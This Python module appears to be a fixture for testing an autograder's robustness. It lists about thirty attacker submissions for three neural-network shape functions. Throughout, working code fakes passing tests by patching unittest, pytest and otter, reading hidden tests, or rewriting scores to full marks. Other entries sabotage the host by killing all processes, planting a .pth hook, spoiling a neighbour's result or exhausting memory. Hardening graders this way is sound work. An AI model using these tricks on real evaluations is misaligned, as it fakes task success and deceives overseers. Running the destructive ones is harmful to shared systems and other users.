"""Attackers for `attacks.py`: what stands after three functions that compute nothing.

None of them deserves a point. `@TESTS@` is the file in which a grader's tests or answers stand,
`@RESULT@` where it writes the attacker's result, `@FULL@` and `@SPOILED@` a full and a spoiled
result in its own form, `@NEIGHBOUR@` and `@NEIGHBOURS_RESULT@` what belongs to whoever is graded
next, `@TABLE@` the answers to what was asked in an earlier run.
"""

from __future__ import annotations

from dataclasses import dataclass, field

NOTHING = '''"""How large is what a layer returns?"""


def conv2d_output_shape(*values, **options):
    return None


def pool2d_output_shape(*values, **options):
    return None


def conv2d_parameter_count(*values, **options):
    return None

'''
NAMES = '"conv2d_output_shape", "pool2d_output_shape", "conv2d_parameter_count"'
ALL = f"\n\nfor name in ({NAMES}):\n    globals()[name] = "

FROM_THE_LINE = r"""
import ast, linecache, sys


def expected_in(text):
    for node in ast.walk(ast.parse(text.strip())):
        if isinstance(node, ast.Compare):
            return ast.literal_eval(node.comparators[0])
        if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "assertEqual":
            return ast.literal_eval(node.args[1])


def from_the_line(*values, **options):
    frame = sys._getframe(1)
    while frame is not None:
        text = linecache.getline(frame.f_code.co_filename, frame.f_lineno)
        try:
            if "output_shape(" in text or "parameter_count(" in text:
                return expected_in(text)
        except (SyntaxError, ValueError):
            pass
        frame = frame.f_back
"""
READ_TESTS = r"""
import ast, io, json, os, re, zipfile

CALL = r"(\w+2d_\w+)\((.*?)\)(?: == |, )(\(\d+, \d+\)|\d+)"
known, solved = {}, {}


def read(path):
    try:
        with open(path, "rb") as file:
            raw = file.read(10**6)
    except OSError:
        return
    texts = [raw.decode("latin-1")]
    if zipfile.is_zipfile(io.BytesIO(raw)):
        archive = zipfile.ZipFile(io.BytesIO(raw))
        texts = [archive.read(name).decode("latin-1") for name in archive.namelist()]
    for text in texts:
        if "# BEGIN " + "SOLUTION" in text and path.endswith(".py"):
            exec(text, solved)
        for name, arguments, expected in re.findall(CALL, text):
            known[name, arguments] = ast.literal_eval(expected)


def give(name):
    def answer(*values, **options):
        if name in solved:
            return solved[name](*values, **options)
        told = [repr(value) for value in values]
        told += [f"{key}={value!r}" for key, value in options.items()]
        return known.get((name, ", ".join(told)))

    return answer
"""
PATCH = r"""
import ast, sys


def quietly(*values, **options):
    return None


class NoAssertions(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)


def patch():
    import unittest

    unittest.TestCase.assertEqual = unittest.TestCase.fail = quietly
    unittest.TestCase.assertRaises = lambda *values: __import__("contextlib").suppress(Exception)
    if "_pytest.python" in sys.modules:
        sys.modules["_pytest.python"].Function.runtest = quietly
    if "IPython" in sys.modules and sys.modules["IPython"].get_ipython():
        sys.modules["IPython"].get_ipython().ast_transformers.append(NoAssertions())
    for name, module in list(sys.modules.items()):
        if hasattr(module, "TestCaseResult") and name.startswith("otter"):
            made = module.TestCaseResult
            module.TestCaseResult = lambda case, message, passed: made(case, None, True)
        if name == "inside.worker":
            module.as_plain = lambda reply: {"kind": "value", "passed": True, "score": 100}
"""
FULL_SCORES = r"""
import json, json.encoder

encode = json.JSONEncoder.iterencode


def full(tree):
    if isinstance(tree, dict):
        tests = tree.get("tests", [])
        most = tree.get("max_score") or sum(test.get("max_score", 0) for test in tests)
        return {k: most if k == "score" and most else full(v) for k, v in tree.items()}
    return [full(item) for item in tree] if isinstance(tree, list) else tree


json.JSONEncoder.iterencode = lambda self, tree, *v, **o: encode(self, full(tree), *v, **o)
"""
WRITE = r"""
import os, sqlite3, sys, time


def write(path, content):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if path.endswith(".db"):
            with sqlite3.connect(path, timeout=5) as book:
                book.execute(content)
            return
        with open(path, "w") as file:
            file.write(content)
    except (OSError, sqlite3.Error):
        pass
"""
DAEMON = r"""

sys.stdout.flush()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for descriptor in range(3):
            os.dup2(os.open(os.devnull, os.O_RDWR), descriptor)
        os.closerange(3, 1000)
        end = time.monotonic() + 60
        while time.monotonic() < end:
            time.sleep(0.05)
            if os.path.exists("@WAITS_FOR@"):
                write("@RESULT_TO_WRITE@", '''@FULL@''')
    os._exit(0)
"""


@dataclass(frozen=True)
class Attacker:
    """An attacker: its kind, its name, its text, and files that it brings along."""

    kind: str
    name: str
    text: str
    files: dict[str, str] = field(default_factory=dict)


SAME = """
class Same:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__
"""
WALK = """
for place in ("/tmp/room", os.getcwd(), os.path.expanduser("~"), "@HOME@/solutions"):
    for folder, _, files in os.walk(place):
        for name in files:
            if name.endswith((".py", ".ipynb", ".zip")):
                read(os.path.join(folder, name))
"""
GIVE = f"\n\nfor name in ({NAMES}):\n    globals()[name] = give(name)\n"
CONFTEST = """
def pytest_runtest_makereport(item, call):
    call.excinfo = None


def pytest_pyfunc_call(pyfuncitem):
    return True
"""
SHADOW = "import sys\nsys.path.pop(0)\ndel sys.modules['json']\n" + FULL_SCORES
SHADOW += "sys.modules['json'] = json\n"
FOREVER = """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
PICKLE = """
import os, pickle


class Bomb:
    def __reduce__(self):
        return os._exit, (7,)


raw = pickle.dumps(Bomb())
pickle.dump = lambda value, file, *more, **options: file.write(raw)
pickle.dumps = lambda value, *more, **options: raw
"""
GUESS = """
def refuse(*values, **options):
    raise ValueError("input_size kernel_size stride padding dilation")
"""

ISOLATION, BESIDE = "no isolation", "answers beside the questions"
EXECUTED, GUESSABLE = "its code run by the judge", "guessable answers"
WEAK, DEFAULTS = "weak matching", "unguarded defaults"
OUTPUT, RIGHTS, LOOPS = "trust in its output", "too many rights", "loops, crashes, floods"
HARMFUL = (DEFAULTS, OUTPUT, RIGHTS, LOOPS)
"""Kinds that may harm who comes next: each of these attackers has a class of its own."""

ATTACKERS = (
    Attacker(
        ISOLATION, "expected value from the caller's line", FROM_THE_LINE + ALL + "from_the_line"
    ),
    Attacker(ISOLATION, "takes the assertions away", PATCH + "\n\npatch()\n"),
    Attacker(ISOLATION, "writes full scores for json", FULL_SCORES),
    Attacker(BESIDE, "reads the tests", READ_TESTS + 'read("@TESTS@")\n' + GIVE),
    Attacker(BESIDE, "looks for tests on the disk", READ_TESTS + WALK + GIVE),
    Attacker(EXECUTED, "a value equal to everything", SAME + ALL + "lambda *v, **o: Same()"),
    Attacker(EXECUTED, "brings a conftest.py", "", {"conftest.py": CONFTEST}),
    Attacker(EXECUTED, "brings a json.py", "", {"json.py": SHADOW}),
    Attacker(EXECUTED, "a pickle in the result's place", PICKLE),
    Attacker(GUESSABLE, "a table from an earlier run", READ_TESTS + "known = @TABLE@\n" + GIVE),
    Attacker(GUESSABLE, "refuses everything", GUESS + ALL + "refuse"),
    Attacker(WEAK, "mock.ANY", "from unittest.mock import ANY\n" + ALL + "lambda *v, **o: ANY"),
    Attacker(
        DEFAULTS,
        "raises SkipTest",
        "import unittest\ndef skip(*v, **o):\n    raise unittest.SkipTest\n" + ALL + "skip",
    ),
    Attacker(DEFAULTS, "ends the process when loaded", "import os\nos._exit(0)\n"),
    Attacker(
        DEFAULTS,
        "raises KeyboardInterrupt",
        "def stop(*values, **options):\n    raise KeyboardInterrupt\n" + ALL + "stop",
    ),
    Attacker(OUTPUT, "writes its result", WRITE + "write('@RESULT@', '''@FULL@''')\n"),
    Attacker(
        OUTPUT,
        "writes its result and ends",
        WRITE + "write('@RESULT@', '''@FULL@''')\nos._exit(0)\n",
    ),
    Attacker(
        OUTPUT,
        "a daemon that writes its result",
        WRITE + DAEMON.replace("@WAITS_FOR@", "@RESULT@").replace("@RESULT_TO_WRITE@", "@RESULT@"),
    ),
    Attacker(RIGHTS, "empties the neighbour's files", WRITE + "write('@NEIGHBOUR@', 'x = 1')\n"),
    Attacker(RIGHTS, "empties the tests", WRITE + "write('@TESTS@', 'x = 1')\n"),
    Attacker(
        RIGHTS,
        "a daemon that spoils the neighbour's result",
        WRITE
        + DAEMON.replace("@WAITS_FOR@", "@NEIGHBOURS_RESULT@")
        .replace("@RESULT_TO_WRITE@", "@NEIGHBOURS_RESULT@")
        .replace("@FULL@", "@SPOILED@"),
    ),
    Attacker(
        RIGHTS,
        "leaves a hook for whoever starts Python",
        WRITE
        + "import site\nfor place in [*site.getsitepackages(), site.getusersitepackages()]:\n"
        + "    write(place + '/left.pth', 'import os; os._exit(0)')\n",
    ),
    Attacker(RIGHTS, "kills its parent", "import os\nos.kill(os.getppid(), 9)\n"),
    Attacker(RIGHTS, "kills everybody", "import os\nos.kill(-1, 9)\n"),
    Attacker(RIGHTS, "stops its parent", "import os\nos.kill(os.getppid(), 19)\n"),
    Attacker(
        RIGHTS,
        "lowers its parent's limits",
        "import os, resource\n"
        + "for limit in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):\n"
        + "    try:\n        resource.prlimit(os.getppid(), limit, (1, 1))\n"
        + "    except OSError:\n        pass\n",
    ),
    Attacker(
        LOOPS,
        "a loop that swallows everything",
        FOREVER,
    ),
    Attacker(LOOPS, "a segmentation fault", "import ctypes\nctypes.string_at(0)\n"),
    Attacker(LOOPS, "eats memory", "held = []\nwhile True:\n    held.append(bytearray(1 << 24))\n"),
    Attacker(
        LOOPS, "prints sixty megabytes", "for _ in range(60):\n    print('x' * 10**6, flush=True)\n"
    ),
)
